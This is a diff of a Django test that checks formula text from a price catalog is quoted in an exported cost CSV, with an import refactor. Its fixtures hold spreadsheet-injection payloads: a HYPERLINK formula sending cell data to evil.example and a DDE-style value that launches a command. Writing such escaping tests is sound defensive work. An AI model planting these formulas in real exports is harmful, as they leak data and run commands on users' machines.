@@ -10,8 +10,8 @@ from django.test import Client
 from django.urls import reverse
 
 from advisor import decisions, services
-from advisor.reference import services as reference_services
 from advisor.reference.models import Catalog
+from advisor.reference.services.catalog import catalog_clone, catalog_publish
 from advisor.reporting.csv import csv_cell
 from advisor.starters import BY_SLUG as STARTERS
 from tests.factories import AssessmentFactory, MembershipFactory, ReportFactory
@@ -25,12 +25,10 @@ LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the price sheet")'
 def test_formula_text_from_the_catalog_is_quoted_in_the_cost_csv(client: Client) -> None:
     chosen = decisions.evaluate(STARTERS[STARTER].document(), language="en")["cost"]
     accelerator_id = chosen["by_workload"][0]["accelerator_id"]
-    draft = reference_services.catalog_clone(
-        catalog=Catalog.objects.get(status="published"), user=None
-    )
+    draft = catalog_clone(catalog=Catalog.objects.get(status="published"), user=None)
     draft.prices.filter(accelerator__key=accelerator_id).update(source=LINK, provider="@SUM(1)")
     draft.accelerators.filter(key=accelerator_id).update(name="+cmd|' /C calc'!A0")
-    reference_services.catalog_publish(catalog=draft, user=None)
+    catalog_publish(catalog=draft, user=None)
 
     membership = MembershipFactory()
     client.force_login(membership.user)
